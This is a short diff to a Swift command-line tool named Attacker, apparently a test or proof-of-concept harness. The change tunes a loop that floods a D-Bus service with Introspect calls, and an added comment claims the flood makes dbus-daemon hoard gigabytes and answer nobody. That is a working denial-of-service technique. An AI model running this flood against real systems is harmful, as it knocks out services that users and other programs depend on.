@@ -45,12 +45,17 @@ struct Attacker: ParsableCommand {
         }
     }
 
+    /// 8,000 calls a second: with what is possible, dbus-daemon keeps gigabytes of its own errors for the attacker, and
+    /// answers nobody, whatever the service does.
     private func introspect() throws {
         let clients = try (0..<2).map { _ in try RawClient(address: address) }
         while true {
             for client in clients {
-                client.call(BusNames.service, path, "org.freedesktop.DBus.Introspectable", "Introspect")
+                for _ in 0..<4 {
+                    client.call(BusNames.service, path, "org.freedesktop.DBus.Introspectable", "Introspect")
+                }
             }
+            Thread.sleep(forTimeInterval: 0.001)
         }
     }
 
